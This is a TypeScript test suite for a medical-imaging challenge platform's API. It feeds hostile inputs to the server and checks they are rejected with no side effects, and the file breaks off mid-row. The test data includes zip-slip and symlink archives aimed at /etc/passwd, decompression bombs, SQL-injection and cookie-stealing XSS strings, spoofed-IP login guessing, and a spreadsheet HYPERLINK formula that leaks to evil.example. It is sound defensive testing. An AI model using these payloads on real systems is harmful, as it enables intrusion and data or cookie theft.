/**
 * Hostile inputs, one table: each row is an attack through the real HTTP API, the status and error code it must
 * get, and — for every rejected row — proof of no side effect: no new row in any platform table, no new stored
 * blob, and an empty scratch folder afterwards. Several rows repeat scenarios of other suites (archives,
 * submission validation, auth, viewer access, resumable uploads) on purpose: here they are all in one place.
 * Names shaped like SQL injection or HTML are accepted where they are valid names and stored verbatim (checked
 * byte for byte); the client renders server data as text (checked on its source below).
 */
import assert from 'node:assert/strict';
import { existsSync, mkdirSync, mkdtempSync, readdirSync, readFileSync, rmSync, statSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join, relative } from 'node:path';
import { fileURLToPath } from 'node:url';
import { lineChartSvg } from '../../client/plots/line-chart.ts';
import { createPhaseWithCases, createTeam, writeMask, writeTarGz, writeZip, type PhaseFixture, type TeamFixture } from '../helpers/submission-fixtures.ts';
import { createTestApp, type Agent, type Reply, type TestApp } from '../helpers/test-app.ts';
import { tokenIn, waitForOutboxMail } from '../helpers/mail.ts';
import { TusClient } from '../reliability/tus-helpers.ts';
import { corruptGzip, niftiHeaderOnly, niftiWithBrokenGeometry } from './hostile-inputs.ts';
import { BLIND_TD, GOLD_DERIVED, MODEL_ERROR_TEXT, sideDoors, type SideDoors } from './side-door-fixtures.ts';

const TABLES = ['users', 'sessions', 'api_tokens', 'challenges', 'phases', 'cases', 'gold_standards', 'teams', 'team_members', 'blobs', 'submissions', 'submission_files', 'evaluations', 'audit_log', 'resumable_uploads'];
const CLIENT_INDEX = fileURLToPath(new URL('../../dist/client/index.html', import.meta.url));
const SQL_NAME = `Robert'); drop table teams; --`;
const HTML_NAME = `<img src=x onerror="alert(document.cookie)"><script>alert(1)</script>`;

interface Outcome {
  status: number;
  code?: string;
  message?: RegExp;
}

interface Row {
  attack: string;
  /** Work done before the "no side effect" snapshot (e.g. revoking the token the attack then uses). */
  prepare?: () => Promise<void>;
  send: () => Promise<Reply | { status: number; body: unknown }>;
  expect: Outcome;
  /** For accepted rows: what must be true instead of "nothing changed". */
  accepted?: (reply: Reply) => Promise<void>;
}

function filesUnder(dir: string): string[] {
  let out: string[] = [];
  let names: string[];
  try {
    names = readdirSync(dir);
  } catch {
    return out;
  }
  for (const name of names) {
    const path = join(dir, name);
    out = statSync(path).isDirectory() ? [...out, ...filesUnder(path)] : [...out, path];
  }
  return out;
}

describe('hostile inputs: each rejected with the right status and no side effect', function () {
  this.timeout(120_000);
  let t: TestApp;
  let dir: string;
  let phase: PhaseFixture;
  let hiddenPhase: PhaseFixture;
  let team: TeamFixture;
  let other: TeamFixture;
  let outsider: Agent;
  let token: string;
  let tusToken: string;
  let ids: { otherSubmission: number; otherEvaluation: number; ownHiddenSubmission: number; ownHiddenEvaluation: number; caseId: number; otherUpload: string };
  let doors: SideDoors;
  const rows: Row[] = [];

  async function snapshot() {
    const counts: Record<string, number> = {};
    for (const table of TABLES) counts[table] = (await t.db.query(`select count(*)::int as n from ${table}`)).rows[0].n;
    const blobs = filesUnder(join(t.storageDir, 'blobs')).map((p) => relative(t.storageDir, p)).sort();
    return { counts, blobs };
  }

  function scratchLeftovers(): string[] {
    // resumable uploads' folder holds the part file of the other user's upload made in `before`
    return filesUnder(join(t.storageDir, 'tmp')).map((p) => relative(t.storageDir, p)).filter((p) => !p.startsWith(`tmp/resumable/${ids.otherUpload}`));
  }

  before(async () => {
    t = await createTestApp('hostile', { MAX_UNPACKED_BYTES: String(16 * 2 ** 20), MAX_VOXELS: String(2 ** 27) });
    dir = mkdtempSync(join(tmpdir(), 'carina-hostile-'));
    phase = await createPhaseWithCases(t, { caseNames: ['ATM_001'], dailyLimit: 50 });
    hiddenPhase = await createPhaseWithCases(t, { caseNames: ['ATM_002'], showCaseResults: false });
    team = await createTeam(t, phase.challengeId);
    other = await createTeam(t, phase.challengeId);
    outsider = t.agent();
    await outsider.register(`outsider-${process.pid}@example.org`);
    token = (await team.member.post('/api/tokens', { name: 'hostile' })).body.token;
    tusToken = (await team.member.post('/api/tokens', { name: 'hostile-tus' })).body.token;
    // the other team's submission with a scored case, and the team's own in a phase that hides per-case results
    mkdirSync(join(dir, 'good'));
    const good = await writeMask(join(dir, 'good', 'ATM_001.nii.gz'));
    const otherSubmission = (await other.member.upload(`/api/phases/${phase.phaseId}/submissions`, [good])).body.submission.id;
    const otherEvaluation = (await t.db.query('select id from evaluations where submission_id = $1', [otherSubmission])).rows[0].id;
    await t.db.query(`update evaluations set status = 'done', metrics = '{"TD": 91.5, "BD": 80.1}' where id = $1`, [otherEvaluation]);
    const hiddenTeamId = (await t.db.query(`insert into teams (challenge_id, name, invite_code, captain_id, status) select $1, 'own hidden', 'own-hidden', user_id, 'accepted' from team_members where team_id = $2 returning id`, [hiddenPhase.challengeId, team.teamId])).rows[0].id;
    await t.db.query('insert into team_members (team_id, user_id, challenge_id) select $1, user_id, $2 from team_members where team_id = $3', [hiddenTeamId, hiddenPhase.challengeId, team.teamId]);
    const own = await team.member.upload(`/api/phases/${hiddenPhase.phaseId}/submissions`, [await writeMask(join(dir, 'ATM_002.nii.gz'))]);
    assert.equal(own.status, 202, own.text);
    const ownHiddenEvaluation = (await t.db.query('select id from evaluations where submission_id = $1', [own.body.submission.id])).rows[0].id;
    await t.db.query(`update evaluations set status = 'done', metrics = '{"TD": 77.7, "BD": 66.6}' where id = $1`, [ownHiddenEvaluation]);
    const otherToken = (await other.member.post('/api/tokens', { name: 'other' })).body.token;
    const otherUpload = (await new TusClient(t.baseUrl, otherToken).create(phase.phaseId, 'ATM_001.nii.gz', 100)).body.upload.id;
    ids = { otherSubmission, otherEvaluation, ownHiddenSubmission: own.body.submission.id, ownHiddenEvaluation, caseId: phase.cases.ATM_001, otherUpload };
    doors = await sideDoors(t);
  });

  after(async function () {
    await t.close(this.currentTest?.state === 'failed');
    rmSync(dir, { recursive: true, force: true });
  });

  const submit = (files: Array<string | { path: string; name?: string; field?: string }>, fields: Record<string, string> = {}) => team.member.upload(`/api/phases/${phase.phaseId}/submissions`, files, fields);
  const file = (name: string) => join(dir, name);
  const goodFile = () => join(dir, 'good', 'ATM_001.nii.gz');

  // ---- hostile files ----
  rows.push(
    { attack: 'corrupt gzip (.nii.gz that is noise after its header)', send: async () => submit([corruptGzip(file('ATM_001.nii.gz'))]), expect: { status: 422, code: 'VALIDATION_FAILED', message: /could not be read/ } },
    { attack: 'NIfTI header claiming 10^12 voxels', send: async () => submit([niftiHeaderOnly(file('ATM_001.nii'), [10000, 10000, 10000])]), expect: { status: 422, code: 'VALIDATION_FAILED', message: /10000x10000x10000|voxels/ } },
    { attack: 'NIfTI header claiming 10^12 voxels, gzipped', send: async () => submit([niftiHeaderOnly(file('ATM_001.nii.gz'), [10000, 10000, 10000])]), expect: { status: 422, code: 'VALIDATION_FAILED' } },
    { attack: 'zip-slip: ../ in an archive entry', send: async () => submit([writeZip(file('slip.zip'), [{ name: '../../ATM_001.nii.gz', data: readFileSync(goodFile()) }])]), expect: { status: 422, code: 'VALIDATION_FAILED', message: /outside the archive/ } },
    { attack: 'zip-slip: absolute path in an archive entry', send: async () => submit([writeZip(file('abs.zip'), [{ name: '/tmp/ATM_001.nii.gz', data: Buffer.alloc(10) }])]), expect: { status: 422, code: 'VALIDATION_FAILED', message: /absolute path/ } },
    { attack: 'zip-slip in a .tar.gz', send: async () => submit([await writeTarGz(file('slip.tar.gz'), [{ name: '../ATM_001.nii.gz', data: Buffer.alloc(10) }])]), expect: { status: 422, code: 'VALIDATION_FAILED', message: /outside the archive/ } },
    { attack: 'decompression bomb: 64 MiB of zeros in a 64 kB zip that claims 1 kB', send: async () => submit([writeZip(file('bomb.zip'), [{ name: 'ATM_001.nii.gz', data: Buffer.alloc(64 * 2 ** 20), declaredSize: 1000 }])]), expect: { status: 413, code: 'PAYLOAD_TOO_LARGE', message: /unpacks to more than 16 MiB.*extraction was stopped/ } },
    { attack: 'decompression bomb in a .tar.gz', send: async () => submit([await writeTarGz(file('bomb.tar.gz'), [{ name: 'ATM_001.nii.gz', data: Buffer.alloc(40 * 2 ** 20) }])]), expect: { status: 413, code: 'PAYLOAD_TOO_LARGE', message: /unpacks to more than 16 MiB/ } },
    { attack: 'symbolic link in a tar', send: async () => submit([await writeTarGz(file('link.tar.gz'), [{ name: 'ATM_001.nii.gz', type: 'symlink', linkname: '/etc/passwd' }])]), expect: { status: 422, code: 'VALIDATION_FAILED', message: /symbolic link|link/ } },
    { attack: 'hard link in a tar', send: async () => submit([await writeTarGz(file('hard.tar.gz'), [{ name: 'ATM_001.nii.gz', type: 'link', linkname: '../../../etc/passwd' }])]), expect: { status: 422, code: 'VALIDATION_FAILED' } },
    { attack: 'symbolic link in a zip', send: async () => submit([writeZip(file('link.zip'), [{ name: 'ATM_001.nii.gz', data: Buffer.from('/etc/passwd'), method: 0, mode: 0o120777 }])]), expect: { status: 422, code: 'VALIDATION_FAILED' } },
  );

  // ---- requests of the wrong shape ----
  rows.push(
    { attack: 'JSON instead of multipart on the upload route', send: () => team.member.post(`/api/phases/${phase.phaseId}/submissions`, { files: ['ATM_001.nii.gz'] }), expect: { status: 415, code: 'UNSUPPORTED_MEDIA_TYPE' } },
    { attack: 'a resumable chunk sent as JSON', send: () => new TusClient(t.baseUrl, tusToken).request('PATCH', `/api/uploads/${'0'.repeat(32)}`, { 'content-type': 'application/json', 'upload-offset': '0' }, '{}'), expect: { status: 415, code: 'UNSUPPORTED_MEDIA_TYPE' } },
    { attack: 'oversized multipart field (a 5000-character note)', send: async () => submit([goodFile()], { note: 'n'.repeat(5000) }), expect: { status: 400, code: 'BAD_REQUEST', message: /too long/ } },
    { attack: 'too many multipart fields', send: async () => submit([goodFile()], Object.fromEntries(Array.from({ length: 12 }, (_, i) => [`f${i}`, 'x']))), expect: { status: 400, code: 'BAD_REQUEST' } },
    { attack: 'oversized multipart field name', send: async () => submit([goodFile()], { ['k'.repeat(500)]: 'x' }), expect: { status: 400, code: 'BAD_REQUEST', message: /Field name too long/ } },
    { attack: 'oversized multipart field name on the organisers\' case upload', send: () => phase.organiser.upload(`/api/phases/${phase.phaseId}/cases`, [{ path: goodFile(), field: 'ct' }], { name: 'ATM_009', ['k'.repeat(500)]: 'x' }), expect: { status: 400, code: 'BAD_REQUEST', message: /Field name too long/ } },
    { attack: 'files in an unexpected multipart field', send: async () => submit([{ path: goodFile(), field: 'evil' }]), expect: { status: 400, code: 'BAD_REQUEST', message: /field "files"/ } },
    { attack: 'oversized field on the organisers\' case upload', send: () => phase.organiser.upload(`/api/phases/${phase.phaseId}/cases`, [{ path: goodFile(), field: 'ct' }], { name: 'A'.repeat(5000) }), expect: { status: 400, code: 'BAD_REQUEST' } },
    { attack: 'a 2 MB JSON body', send: () => team.member.post('/api/teams', { challenge: phase.slug, name: 'x'.repeat(2 * 2 ** 20) }), expect: { status: 413, code: 'PAYLOAD_TOO_LARGE' } },
    { attack: 'malformed JSON', send: () => fetch(`${t.baseUrl}/api/teams`, { method: 'POST', headers: { 'content-type': 'application/json', authorization: `Bearer ${tusToken}` }, body: '{"challenge": ' }).then(async (r) => ({ status: r.status, body: await r.json() })), expect: { status: 400, code: 'BAD_REQUEST', message: /not valid JSON/ } },
  );

  // ---- names shaped like SQL injection or HTML: harmless ----
  rows.push(
    { attack: 'SQL-shaped challenge slug', send: async () => {
      await t.db.query('update users set is_admin = true where id = (select user_id from team_members where team_id = $1)', [other.teamId]);
      const reply = await other.member.post('/api/challenges', { slug: `x'; drop table challenges; --`, title: 'x', participationPolicy: 'auto' });
      await t.db.query('update users set is_admin = false where id = (select user_id from team_members where team_id = $1)', [other.teamId]);
      return reply;
    }, expect: { status: 400, code: 'BAD_REQUEST', message: /slug/ } },
    { attack: 'SQL-shaped slug in a URL', send: () => outsider.get(`/api/challenges/${encodeURIComponent(`x' or '1'='1`)}`), expect: { status: 404, code: 'NOT_FOUND' } },
    { attack: 'SQL-shaped case name', send: () => phase.organiser.upload(`/api/phases/${phase.phaseId}/cases`, [{ path: goodFile(), field: 'ct' }, { path: goodFile(), field: 'gold' }], { name: `ATM_1'; delete from cases; --` }), expect: { status: 400, code: 'BAD_REQUEST', message: /name/ } },
    { attack: 'SQL-shaped e-mail at log-in', send: () => t.agent().post('/api/auth/login', { email: `' or 1=1 --@x.org`, password: `' or '1'='1` }), expect: { status: 400, code: 'BAD_REQUEST', message: /e-mail address/ } },
    { attack: 'SQL-shaped team name (valid: stored verbatim)', send: () => outsider.post('/api/teams', { challenge: phase.slug, name: SQL_NAME }), expect: { status: 201 }, accepted: async (reply) => {
      assert.equal(reply.body.team.name, SQL_NAME);
      assert.equal((await t.db.query('select name from teams where id = $1', [reply.body.team.id])).rows[0].name, SQL_NAME);
      assert.ok((await t.db.query('select count(*)::int as n from teams')).rows[0].n >= 4, 'the teams table is still there');
    } },
    { attack: 'HTML in a team name (valid: returned verbatim as JSON)', send: async () => {
      const agent = t.agent();
      await agent.register(`html-${process.pid}@example.org`);
      return agent.post('/api/teams', { challenge: phase.slug, name: HTML_NAME });
    }, expect: { status: 201 }, accepted: async (reply) => {
      const read = await outsider.get(`/api/teams/${reply.body.team.id}`);
      assert.equal(read.body.team.name, HTML_NAME);
      assert.match(read.headers.get('content-type') ?? '', /^application\/json/);
      const board = await fetch(`${t.baseUrl}/api/challenges/${phase.slug}/teams`);
      assert.match(board.headers.get('content-type') ?? '', /^application\/json/);
      assert.ok(((await board.json()) as { teams: Array<{ name: string }> }).teams.some((team: { name: string }) => team.name === HTML_NAME));
    } },
  );

  // ---- authentication ----
  rows.push(
    { attack: 'state change with the session cookie but no CSRF token', send: () => outsider.request('POST', '/api/teams', { challenge: phase.slug, name: 'csrf' }, { csrf: false }), expect: { status: 403, code: 'CSRF_FAILED' } },
    { attack: 'upload with the session cookie but no CSRF token', send: () => team.member.upload(`/api/phases/${phase.phaseId}/submissions`, [goodFile()], {}, { csrf: false }), expect: { status: 403, code: 'CSRF_FAILED' } },
    { attack: 'upload with a forged CSRF token', send: () => team.member.upload(`/api/phases/${phase.phaseId}/submissions`, [goodFile()], {}, { csrf: false, headers: { 'x-csrf-token': 'forged' } }), expect: { status: 403, code: 'CSRF_FAILED' } },
    { attack: 'expired session', prepare: async () => {
      await t.db.query(`update sessions set expires_at = now() - interval '1 minute' where user_id = (select id from users where email = $1)`, [`outsider-${process.pid}@example.org`]);
    }, send: () => outsider.upload(`/api/phases/${phase.phaseId}/submissions`, [goodFile()]), expect: { status: 401, code: 'UNAUTHENTICATED' } },
    { attack: 'revoked API token', prepare: async () => {
      await t.db.query('update api_tokens set revoked_at = now() where token_hash = encode(sha256($1::bytea), \'hex\')', [token]);
    }, send: () => t.agent({ token }).upload(`/api/phases/${phase.phaseId}/submissions`, [goodFile()]), expect: { status: 401, code: 'UNAUTHENTICATED', message: /revoked/ } },
    { attack: 'made-up API token', send: () => t.agent({ token: 'carina_' + 'a'.repeat(40) }).get('/api/auth/me'), expect: { status: 401, code: 'UNAUTHENTICATED' } },
    { attack: 'malformed Authorization header', send: () => fetch(`${t.baseUrl}/api/auth/me`, { headers: { authorization: 'Basic YWRtaW46YWRtaW4=' } }).then(async (r) => ({ status: r.status, body: await r.json() })), expect: { status: 401, code: 'UNAUTHENTICATED' } },
    { attack: 'anonymous upload', send: () => t.agent().upload(`/api/phases/${phase.phaseId}/submissions`, [goodFile()]), expect: { status: 401, code: 'UNAUTHENTICATED' } },
  );

  // ---- accounts: verified addresses, single-use links, throttling, cookies (issue 11) ----
  let unverified: Agent;
  let unverifiedEmail: string;
  const makeUnverified = async () => {
    unverifiedEmail = `unverified-${rows.length}-${process.pid}@example.org`;
    unverified = t.agent();
    assert.equal((await unverified.post('/api/auth/register', { email: unverifiedEmail, password: 'password123', displayName: 'U' })).status, 202);
    await unverified.login(unverifiedEmail);
  };
  const malformedCookie = (path: string) => fetch(`${t.baseUrl}${path}`, { headers: { cookie: 'carina_session=%' } }).then(async (r) => ({ status: r.status, body: (r.headers.get('content-type') ?? '').includes('json') ? await r.json() : await r.text() }));
  let usedLink = '';
  rows.push(
    { attack: 'malformed session cookie (carina_session=%) on a public API route', send: () => malformedCookie('/api/challenges'), expect: { status: 200 }, accepted: async () => undefined },
    { attack: 'malformed session cookie (carina_session=%) on /api/auth/me', send: () => malformedCookie('/api/auth/me'), expect: { status: 401, code: 'UNAUTHENTICATED' } },
    { attack: 'malformed session cookie (carina_session=%) on a page of the client', send: () => malformedCookie('/no-such-page'), expect: { status: existsSync(CLIENT_INDEX) ? 200 : 404 }, accepted: async () => undefined },
    { attack: 'an API token used to mint another API token', send: () => t.agent({ token: tusToken }).post('/api/tokens', { name: 'child' }), expect: { status: 403, code: 'FORBIDDEN', message: /browser session/ } },
    { attack: 'unverified account creates a team', prepare: makeUnverified, send: () => unverified.post('/api/teams', { challenge: phase.slug, name: 'unverified team' }), expect: { status: 403, code: 'EMAIL_NOT_VERIFIED' } },
    { attack: 'unverified account joins a team by its invite code', prepare: makeUnverified, send: async () => {
      const code = (await t.db.query('select invite_code from teams where id = $1', [other.teamId])).rows[0].invite_code as string;
      return unverified.post('/api/teams/join', { inviteCode: code });
    }, expect: { status: 403, code: 'EMAIL_NOT_VERIFIED' } },
    { attack: 'unverified account (made a member by hand) submits', prepare: async () => {
      await makeUnverified();
      const userId = (await t.db.query('select id from users where email = $1', [unverifiedEmail])).rows[0].id;
      await t.db.query('insert into team_members (team_id, user_id, challenge_id) select id, $2, challenge_id from teams where id = $1', [other.teamId, userId]);
    }, send: () => unverified.upload(`/api/phases/${phase.phaseId}/submissions`, [goodFile()]), expect: { status: 403, code: 'EMAIL_NOT_VERIFIED' } },
    { attack: 'a verification link used twice', prepare: async () => {
      const email = `twice-${process.pid}@example.org`;
      await t.agent().post('/api/auth/register', { email, password: 'password123', displayName: 'T' });
      usedLink = tokenIn(await waitForOutboxMail(t.outboxDir, email, '/verify'), '/verify')!;
      assert.equal((await t.agent().post('/api/auth/verify', { token: usedLink })).status, 200);
    }, send: () => t.agent().post('/api/auth/verify', { token: usedLink }), expect: { status: 400, code: 'LINK_INVALID' } },
    { attack: 'a made-up password-reset link', send: () => t.agent().post('/api/auth/password/reset', { token: 'x'.repeat(43), password: 'new password 1' }), expect: { status: 400, code: 'LINK_INVALID' } },
    { attack: 'registering an address that has an account (enumeration)', send: () => t.agent().post('/api/auth/register', { email: team.email, password: 'password123', displayName: 'Impostor' }), expect: { status: 202 }, accepted: async (reply) => {
      assert.equal(reply.headers.get('set-cookie'), null);
      assert.equal((await t.db.query('select display_name from users where email = $1', [team.email])).rows[0].display_name === 'Impostor', false);
    } },
    { attack: 'log-in guesses with a new spoofed X-Forwarded-For each time', send: async () => {
      let last: Reply | undefined;
      for (let n = 0; n < 12; n++) last = await t.agent().post('/api/auth/login', { email: team.email, password: `guess ${n}` }, { headers: { 'x-forwarded-for': `203.0.113.${n}` } });
      return last!;
    }, expect: { status: 429, code: 'RATE_LIMITED' } },
  );

  // ---- a participant probing what is not theirs ----
  const member = () => other.member;
  rows.push(
    { attack: 'participant downloads a CT (gold-standard grid)', send: () => member().get(`/api/cases/${ids.caseId}/ct`), expect: { status: 403, code: 'FORBIDDEN' } },
    { attack: 'anonymous downloads a CT', send: () => t.agent().get(`/api/cases/${ids.caseId}/ct`), expect: { status: 401, code: 'UNAUTHENTICATED' } },
    { attack: 'participant opens a case viewer (gold standard)', send: () => member().get(`/api/cases/${ids.caseId}/viewer`), expect: { status: 404, code: 'NOT_FOUND' } },
    { attack: 'participant fetches a gold-standard volume', send: () => member().get(`/api/cases/${ids.caseId}/viewer/gold`), expect: { status: 404, code: 'NOT_FOUND' } },
    { attack: 'participant fetches a gold-standard surface', send: () => member().get(`/api/cases/${ids.caseId}/viewer/gold-surface`), expect: { status: 404, code: 'NOT_FOUND' } },
    { attack: 'participant opens their own evaluation where the phase does not allow 3D inspection', send: () => member().get(`/api/evaluations/${ids.otherEvaluation}/viewer`), expect: { status: 404, code: 'NOT_FOUND', message: /does not let teams inspect/ } },
    { attack: 'participant exports the phase\'s results', send: () => member().get(`/api/phases/${phase.phaseId}/export.csv`), expect: { status: 403, code: 'FORBIDDEN' } },
    { attack: 'participant asks for the hidden leaderboard entries', send: () => member().get(`/api/phases/${phase.phaseId}/leaderboard?all=1`), expect: { status: 403, code: 'FORBIDDEN' } },
    { attack: 'hidden per-case results: own submission in a phase that hides them', send: () => team.member.get(`/api/submissions/${ids.ownHiddenSubmission}`), expect: { status: 200 }, accepted: async (reply) => {
      assert.equal(reply.body.submission.caseResultsShown, false);
      assert.ok(reply.body.cases.every((c: { metrics: unknown }) => c.metrics === null), 'no per-case metric is sent');
      assert.doesNotMatch(reply.text, /77\.7|66\.6/);
    } },
    { attack: 'hidden per-case results: own evaluation in the 3D viewer', send: () => team.member.get(`/api/evaluations/${ids.ownHiddenEvaluation}/viewer`), expect: { status: 404, code: 'NOT_FOUND', message: /does not show per-case results/ } },
    { attack: 'another team\'s submission by id', send: () => team.member.get(`/api/submissions/${ids.otherSubmission}`), expect: { status: 404, code: 'NOT_FOUND' } },
    { attack: 'another team\'s evaluation in the viewer', send: () => team.member.get(`/api/evaluations/${ids.otherEvaluation}/viewer`), expect: { status: 404, code: 'NOT_FOUND' } },
    { attack: 'another team\'s prediction volume', send: () => team.member.get(`/api/evaluations/${ids.otherEvaluation}/viewer/prediction`), expect: { status: 404, code: 'NOT_FOUND' } },
    { attack: 'another team\'s model submission', send: () => team.member.get(`/api/submissions/${ids.otherSubmission}/model`), expect: { status: 404, code: 'NOT_FOUND' } },
    { attack: 'another user\'s resumable upload (HEAD)', send: () => new TusClient(t.baseUrl, tusToken).request('HEAD', `/api/uploads/${ids.otherUpload}`), expect: { status: 404 } },
    { attack: 'another user\'s resumable upload submitted as one\'s own', send: () => team.member.post(`/api/phases/${phase.phaseId}/submissions/from-uploads`, { uploadIds: [ids.otherUpload] }), expect: { status: 404, code: 'NOT_FOUND' } },
    { attack: 'a team\'s invite code read by an outsider', send: () => t.agent().get(`/api/teams/${other.teamId}`), expect: { status: 200 }, accepted: async (reply) => {
      assert.equal(reply.body.team.inviteCode, undefined);
      assert.equal(reply.body.team.members, undefined);
    } },
  );

  // ---- side doors: hidden data and blind results reached another way (issue 11, finding 3) ----
  const FORMULA_AFTER_SEPARATOR = 'x;=HYPERLINK("http://evil.example/?leak","open me")';
  rows.push(
    { attack: 'side door: a model\'s error text (quoting the hidden CT\'s shape) in a phase that hides per-case results', send: () => doors.modelTeam.member.get(`/api/submissions/${doors.modelSubmission}/model`), expect: { status: 200 }, accepted: async (reply) => {
      const run = reply.body.runs[0];
      assert.equal(run.error.code, 'MODEL_RUNTIME_ERROR');
      assert.match(run.error.message, /onnxruntime failed while running the model/, 'the catalogue\'s hint instead of the text');
      assert.doesNotMatch(reply.text, /Reshape|487/);
      assert.equal(run.patchesTotal, null, 'the patch count follows the hidden CT\'s size');
    } },
    { attack: 'side door: the same model error on the submission page', send: () => doors.modelTeam.member.get(`/api/submissions/${doors.modelSubmission}`), expect: { status: 200 }, accepted: async (reply) => {
      assert.deepEqual(reply.body.cases[0].error, { code: 'MODEL_RUNTIME_ERROR', message: 'onnxruntime failed while running the model; check it runs on the manifest\'s input shape', owner: 'team' });
      assert.deepEqual(reply.body.cases[0].progress, { stage: 'inference' }, 'the patch count follows the hidden CT\'s size');
      assert.doesNotMatch(reply.text, /Reshape|487|patchesTotal/);
    } },
    { attack: 'side door: the model error text stays with the organisers (who do see it)', send: () => doors.modelPhase.organiser.get(`/api/submissions/${doors.modelSubmission}/model`), expect: { status: 200 }, accepted: async (reply) => {
      assert.equal(reply.body.runs[0].error.message, MODEL_ERROR_TEXT);
    } },
    { attack: 'side door: organiser turns on teamsInspectIn3d in a model phase', send: () => doors.modelPhase.organiser.patch(`/api/phases/${doors.modelPhase.phaseId}`, { teamsInspectIn3d: true }), expect: { status: 422, code: 'VALIDATION_FAILED', message: /model phase/ } },
    { attack: 'side door: organiser creates a model phase with teamsInspectIn3d', send: () => doors.modelPhase.organiser.post(`/api/challenges/${doors.modelPhase.slug}/phases`, { name: 'inspectable models', kind: 'model', opensAt: '2030-01-01T00:00:00Z', closesAt: '2030-02-01T00:00:00Z', teamsInspectIn3d: true }), expect: { status: 422, code: 'VALIDATION_FAILED', message: /model phase/ } },
    ...(['ct', 'gold'] as const).map((volume): Row => ({
      attack: `side door: a model phase's ${volume === 'ct' ? 'CT' : 'gold standard'} through the viewer, with teamsInspectIn3d forced on in the database`,
      prepare: async () => {
        await t.db.query('alter table phases drop constraint phases_no_inspection_of_model_phases');
        await t.db.query('update phases set teams_inspect_in_3d = true, show_case_results = true where id = $1', [doors.modelPhase.phaseId]);
        await t.db.query(`update evaluations set status = 'done', metrics = '{"TD": 50}' where id = $1`, [doors.modelEvaluation]);
      },
      send: async () => {
        const reply = await doors.modelTeam.member.get(`/api/evaluations/${doors.modelEvaluation}/viewer/${volume}`);
        await t.db.query('update phases set teams_inspect_in_3d = false, show_case_results = false where id = $1', [doors.modelPhase.phaseId]);
        await t.db.query(`update evaluations set status = 'failed', metrics = null where id = $1`, [doors.modelEvaluation]);
        await t.db.query('alter table phases add constraint phases_no_inspection_of_model_phases check (kind <> \'model\' or not teams_inspect_in_3d)');
        return reply;
      },
      expect: { status: 404, code: 'NOT_FOUND', message: /model phase/ },
    })),
    { attack: 'side door: the viewer JSON of an own case sends only the allow-listed metrics', send: () => doors.inspectTeam.member.get(`/api/evaluations/${doors.inspectEvaluation}/viewer`), expect: { status: 200 }, accepted: async (reply) => {
      assert.equal(reply.body.metrics.TD, 91.25);
      for (const key of Object.keys(GOLD_DERIVED)) assert.equal(reply.body.metrics[key], undefined, `${key} is not sent`);
      assert.doesNotMatch(reply.text, /424242|31337/);
    } },
    { attack: "side door: a model phase's case list read by a team (the hidden CTs' grids)", send: () => doors.modelTeam.member.get(`/api/phases/${doors.modelPhase.phaseId}/cases`), expect: { status: 200 }, accepted: async (reply) => {
      assert.ok(reply.body.cases.length > 0);
      for (const c of reply.body.cases) assert.equal(c.geometry, null, `${c.name}: no size, spacing, origin or direction of a hidden CT`);
    } },
    { attack: "side door: a model phase's case list read by its organisers (allowed, with the grids)", send: () => doors.modelPhase.organiser.get(`/api/phases/${doors.modelPhase.phaseId}/cases`), expect: { status: 200 }, accepted: async (reply) => {
      for (const c of reply.body.cases) assert.equal(c.geometry.size.length, 3);
    } },
    { attack: 'side door: a pending team read by id (the public list hides it)', send: () => outsider.get(`/api/teams/${doors.pendingTeam}`), expect: { status: 404, code: 'NOT_FOUND' } },
    { attack: 'side door: a rejected team read by id, anonymously', send: () => t.agent().get(`/api/teams/${doors.rejectedTeam}`), expect: { status: 404, code: 'NOT_FOUND' } },
    { attack: 'side door: a rejected team read by its organisers (allowed)', send: () => doors.inspectPhase.organiser.get(`/api/teams/${doors.rejectedTeam}`), expect: { status: 200 }, accepted: async (reply) => {
      assert.equal(reply.body.team.status, 'rejected');
    } },
  );

  // ---- blind phases: results withheld from teams until the phase closes (resultsVisibility 'after-close') ----
  rows.push(
    { attack: 'blind phase: the leaderboard before the close', send: () => doors.blindTeam.member.get(`/api/phases/${doors.blindPhase.phaseId}/leaderboard`), expect: { status: 200 }, accepted: async (reply) => {
      assert.deepEqual(reply.body.entries, []);
      assert.equal(reply.body.withheld.visibility, 'after-close');
      assert.doesNotMatch(reply.text, /88\.8/);
    } },
    { attack: 'blind phase: the leaderboard, anonymously', send: () => t.agent().get(`/api/phases/${doors.blindPhase.phaseId}/leaderboard`), expect: { status: 200 }, accepted: async (reply) => {
      assert.deepEqual(reply.body.entries, []);
    } },
    { attack: 'blind phase: the own submission page (what carina status shows)', send: () => doors.blindTeam.member.get(`/api/submissions/${doors.blindSubmission}`), expect: { status: 200 }, accepted: async (reply) => {
      assert.equal(reply.body.submission.aggregate, null);
      assert.equal(reply.body.submission.caseResultsShown, false);
      assert.equal(reply.body.cases[0].metrics, null);
      assert.doesNotMatch(reply.text, /88\.8/);
    } },
    { attack: 'blind phase: the own submissions list', send: () => doors.blindTeam.member.get(`/api/phases/${doors.blindPhase.phaseId}/submissions/mine`), expect: { status: 200 }, accepted: async (reply) => {
      assert.equal(reply.body.submissions[0].aggregate, null);
      assert.doesNotMatch(reply.text, /88\.8/);
    } },
    { attack: 'blind phase: the own case in the 3D viewer', send: () => doors.blindTeam.member.get(`/api/evaluations/${doors.blindEvaluation}/viewer`), expect: { status: 404, code: 'NOT_FOUND', message: /per-case results now/ } },
    { attack: 'blind phase: the organisers see the leaderboard before the close', send: () => doors.blindPhase.organiser.get(`/api/phases/${doors.blindPhase.phaseId}/leaderboard`), expect: { status: 200 }, accepted: async (reply) => {
      assert.equal(reply.body.entries[0].mean.TD, BLIND_TD);
    } },
    { attack: 'blind phase: once closed, the results reach the team', prepare: async () => {
      await t.db.query(`update phases set opens_at = now() - interval '2 days', closes_at = now() - interval '1 hour' where id = $1`, [doors.blindPhase.phaseId]);
    }, send: () => doors.blindTeam.member.get(`/api/phases/${doors.blindPhase.phaseId}/leaderboard`), expect: { status: 200 }, accepted: async (reply) => {
      assert.equal(reply.body.entries[0].mean.TD, BLIND_TD);
      assert.equal(reply.body.withheld, undefined);
      const detail = await doors.blindTeam.member.get(`/api/submissions/${doors.blindSubmission}`);
      assert.equal(detail.body.submission.aggregate.mean.TD, BLIND_TD);
    } },
    { attack: 'blind phase (never): an organiser makes the results private for good', prepare: async () => {
      await t.db.query(`update phases set results_visibility = 'never' where id = $1`, [doors.blindPhase.phaseId]);
    }, send: () => doors.blindTeam.member.get(`/api/phases/${doors.blindPhase.phaseId}/leaderboard`), expect: { status: 200 }, accepted: async (reply) => {
      assert.deepEqual(reply.body.entries, []);
      assert.deepEqual(reply.body.withheld, { visibility: 'never', visibleFrom: null });
